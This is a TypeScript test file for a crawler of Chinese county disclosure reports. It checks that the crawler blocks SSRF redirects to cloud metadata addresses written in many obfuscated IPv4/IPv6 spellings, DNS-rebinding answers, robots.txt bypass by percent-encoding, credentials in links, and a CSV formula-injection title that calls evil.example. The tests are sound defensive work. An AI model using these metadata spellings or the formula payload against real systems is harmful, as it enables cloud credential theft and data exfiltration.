/**
 * The network attacks, against a hostile portal on 127.0.0.1 (tests/crawl/fixture-server.ts with
 * extra routes), crawled WITH --allow-private-network as in the attack run: metadata addresses in every
 * spelling behind redirects (1), DNS answers pointing at metadata (an injected resolver, never real
 * DNS), a GBK page served as UTF-8 (6), robots.txt bypassed by percent-encoding (9), credentials in
 * links (11), a title that is a spreadsheet formula (5, coverage.csv) and a server that trickles a
 * byte at a time (--url-budget). No traffic leaves 127.0.0.1: refused addresses are never connected to.
 */
import type { LookupAddress } from 'node:dns';
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Resolver } from '../../../src/crawl/address-guard.js';
import { crawl, readManifest, type CrawlSummary, type ManifestEntry } from '../../../src/crawl/index.js';
import { FAST } from '../../src/crawl/fast-options.js';
import { startFixtureServer, type FixtureServer } from '../../src/crawl/fixture-server.js';
import { parseCsv } from './rfc4180.js';

/** Redirect targets: every spelling of a metadata address, and names our resolver answers for. */
const METADATA_TARGETS: Record<string, string> = {
  'link-local': 'http://169.254.0.23/latest/meta-data/', // Tencent Cloud, inside 169.254.0.0/16
  compatible: 'http://[::169.254.169.254]/', // IPv4-compatible IPv6
  mapped: 'http://[::ffff:169.254.169.254]/',
  nat64: 'http://[64:ff9b::a9fe:a9fe]/',
  'nat64-local': 'http://[64:ff9b:1:a9fe:a9:fe00::]/', // RFC 8215 local-use prefix, /48 embedding
  '6to4': 'http://[2002:a9fe:a9fe::1]/',
  teredo: 'http://[2001:0:808:808::5601:5601]/', // client 169.254.169.254, obfuscated
  'aws-ipv6': 'http://[fd00:ec2::254]/latest/meta-data/',
  alibaba: 'http://100.100.100.200/latest/meta-data/',
  'gcp-name': 'http://metadata.google.internal/computeMetadata/v1/',
  'tencent-name': 'http://metadata.tencentyun.com/latest/meta-data/',
};

/** Our DNS: names answer with chosen addresses; the crawler must judge every answer. */
const ANSWERS: Record<string, LookupAddress[]> = {
  'rebind.test': [{ address: '169.254.169.254', family: 4 }],
  'mixed.test': [{ address: '127.0.0.1', family: 4 }, { address: '100.100.100.200', family: 4 }],
  'mapped.test': [{ address: '::ffff:169.254.169.254', family: 6 }],
  'good.test': [{ address: '127.0.0.1', family: 4 }],
};
const resolver: Resolver = (hostname, _options, callback) => {
  const answer = ANSWERS[hostname];
  if (answer) setImmediate(() => callback(null, answer));
  else setImmediate(() => callback(Object.assign(new Error(`getaddrinfo ENOTFOUND ${hostname}`), { code: 'ENOTFOUND' }), []));
};

const GBK_PAGE = iconv.encode(
  '<html><head><title>某县2022年度政府信息公开工作年度报告</title></head><body><h1>某县2022年度政府信息公开工作年度报告</h1>' +
    '<p>附件：<a href="/attack/found-via-gbk.pdf">某县2022年度政府信息公开工作年度报告.pdf</a></p></body></html>',
  'gbk',
);
const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"某县2021年度政府信息公开工作年度报告")';

let server: FixtureServer;
let dir: string;
let summary: CrawlSummary;
let manifest: ManifestEntry[];
const authorizations: string[] = [];
const byPath = (path: string) => manifest.find((row) => row.url === `${server.origin}${path}`);

beforeAll(async () => {
  let origin = '';
  const links = [
    ...Object.keys(METADATA_TARGETS).map((name) => `<a href="/attack/to-${name}">年报 ${name}</a>`),
    ...Object.keys(ANSWERS).map((host) => `<a href="/attack/via-${host}">年报 ${host}</a>`),
    '<a href="/attack/gbk-as-utf8.html">年报 gbk</a>',
    '<a href="/%70rivate/secret.html">年报 robots</a>',
    '<a href="/%70%72%69%76%61%74%65/other.html">年报 robots 2</a>',
    '<a href="CREDENTIALS/attack/cred.html">年报 credentials</a>',
    '<a href="/attack/formula.html">年报 formula</a>',
    '<a href="/attack/trickle.html">年报 trickle</a>',
    '<a href="/attack/after-trickle.html">年报 after</a>',
  ];
  server = await startFixtureServer((key, req, res) => {
    if (!key.startsWith('/attack/')) return false;
    if (req.headers.authorization) authorizations.push(req.headers.authorization);
    const page = (title: string, body = '') => `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
    const to = key.match(/^\/attack\/to-(.+)$/)?.[1];
    const via = key.match(/^\/attack\/via-(.+)$/)?.[1];
    if (to && METADATA_TARGETS[to]) res.writeHead(302, { location: METADATA_TARGETS[to] }).end();
    else if (via && ANSWERS[via]) res.writeHead(302, { location: `http://${via}:${new URL(origin).port}/attack/named.html` }).end();
    else if (key === '/attack/index.html') res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page('年报栏目', links.join('\n').replace('CREDENTIALS', `http://crawl-user:hunter2pw@${new URL(origin).host}`)));
    else if (key === '/attack/named.html') res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page('某县2020年度政府信息公开工作年度报告'));
    else if (key === '/attack/gbk-as-utf8.html') res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(GBK_PAGE);
    else if (key === '/attack/found-via-gbk.pdf') res.writeHead(200, { 'content-type': 'application/pdf' }).end('%PDF-1.4\n%%EOF\n');
    else if (key === '/attack/cred.html') res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page('某县2019年度政府信息公开工作年度报告'));
    else if (key === '/attack/formula.html') res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page(FORMULA_TITLE.replace(/"/g, '&quot;')));
    else if (key === '/attack/after-trickle.html') res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page('某县2018年度政府信息公开工作年度报告'));
    else if (key === '/attack/trickle.html') {
      // One byte every 50 ms, never finishing: the body-idle timeout never fires, only a budget can stop it.
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      const timer = setInterval(() => res.write(' '), 50);
      res.on('close', () => clearInterval(timer));
    } else res.writeHead(404).end();
    return true;
  });
  origin = server.origin;
  dir = await mkdtemp(join(tmpdir(), 'nianbao-hostile-crawl-'));
  summary = await crawl({
    ...FAST,
    seeds: [`${origin}/attack/index.html`],
    outDir: dir,
    allowPrivateNetwork: true,
    resolve: resolver,
    urlBudgetMs: 800,
    years: { from: 2018, to: 2022 },
  });
  manifest = await readManifest(dir);
}, 120_000);

afterAll(async () => {
  await server?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('a crawl with --allow-private-network against a hostile portal', () => {
  it.each(Object.keys(METADATA_TARGETS))('refuses the redirect to the %s metadata address', (name) => {
    expect(byPath(`/attack/to-${name}`)).toMatchObject({ status: 0, error: 'blocked-address', sha256: null, path: null });
  });

  it('refuses names whose DNS answers include a metadata address, at connect time, and connects to the good one', () => {
    for (const host of ['rebind.test', 'mixed.test', 'mapped.test']) expect(byPath(`/attack/via-${host}`), host).toMatchObject({ error: 'blocked-address', sha256: null });
    expect(byPath('/attack/via-good.test')).toMatchObject({ status: 200, error: null, final_url: `http://good.test:${new URL(server.origin).port}/attack/named.html` });
    // The refused names were never asked for anything: only good.test reached the server.
    expect(server.requests.get('/attack/named.html')).toBe(1);
  });

  it('reads a GBK page served as charset=utf-8, finds its report link, and says why', () => {
    expect(byPath('/attack/gbk-as-utf8.html')).toMatchObject({ error: null, title: '某县2022年度政府信息公开工作年度报告', notes: 'encoding-guessed: declared utf-8, the bytes are gb18030' });
    expect(byPath('/attack/found-via-gbk.pdf')).toMatchObject({ kind: 'attachment', status: 200, error: null });
  });

  it('keeps robots.txt rules against percent-encoded paths: the server never saw them', () => {
    expect(byPath('/%70rivate/secret.html')).toMatchObject({ error: 'robots-disallowed' });
    expect(byPath('/%70%72%69%76%61%74%65/other.html')).toMatchObject({ error: 'robots-disallowed' });
    for (const key of server.requests.keys()) expect(key).not.toMatch(/private|%70/i);
  });

  it('strips credentials from links: never sent, never stored in the manifest or the crawl database', async () => {
    expect(byPath('/attack/cred.html')).toMatchObject({ status: 200, error: null });
    expect(authorizations).toEqual([]);
    for (const name of await readdir(dir)) {
      if (name === 'files') continue;
      const bytes = await readFile(join(dir, name));
      expect(bytes.includes('hunter2pw'), name).toBe(false);
      expect(bytes.includes('crawl-user'), name).toBe(false);
    }
  });

  it('neutralises a formula title in coverage.csv', async () => {
    const rows = parseCsv(await readFile(join(dir, 'coverage.csv'), 'utf8'));
    const title = rows[0].indexOf('title');
    const row2021 = rows.find((row) => row[1] === '2021');
    expect(row2021?.[title]).toBe(`'${FORMULA_TITLE}`);
  });

  it('gives up on a trickling URL when its budget is spent, without a retry, and goes on with the host', () => {
    expect(byPath('/attack/trickle.html')).toMatchObject({ error: 'url-budget', sha256: null });
    expect(server.requests.get('/attack/trickle.html')).toBe(1);
    expect(byPath('/attack/after-trickle.html')).toMatchObject({ status: 200, error: null });
    expect(summary.errorsByCode['url-budget']).toBe(1);
  });
});
